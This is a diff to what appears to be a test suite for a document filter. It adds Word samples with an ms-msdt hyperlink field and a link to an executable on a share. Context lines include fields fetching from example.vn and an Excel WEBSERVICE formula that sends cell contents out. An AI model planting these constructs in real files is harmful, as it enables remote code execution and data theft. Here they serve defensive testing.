@@ -134,6 +134,8 @@ REFUSED: dict[str, dict[str, tuple[str, Make]]] = {
         ),
         "docx that fetches a frame": related(relation("frame")),
         "docx with a click that runs": related(relation("hyperlink", "ms-msdt:/id x")),
+        "docx with a click that runs from a share": related(relation("hyperlink", f"{SHARE}.exe")),
+        "docx with a field for a click that runs": with_field(b'HYPERLINK "ms-msdt:/id x"'),
         "docx with a field that fetches": with_field(b'INCLUDETEXT "http://example.vn/x"'),
         "docx with a field that fetches from a share": with_field(b'INCLUDEPICTURE "\\\\\\\\example.vn\\\\x" \\d'),
         "xlsx that sends its cells": ("a.xlsx", lambda: excel_file(('=WEBSERVICE("http://example.vn/"&A1)',))),
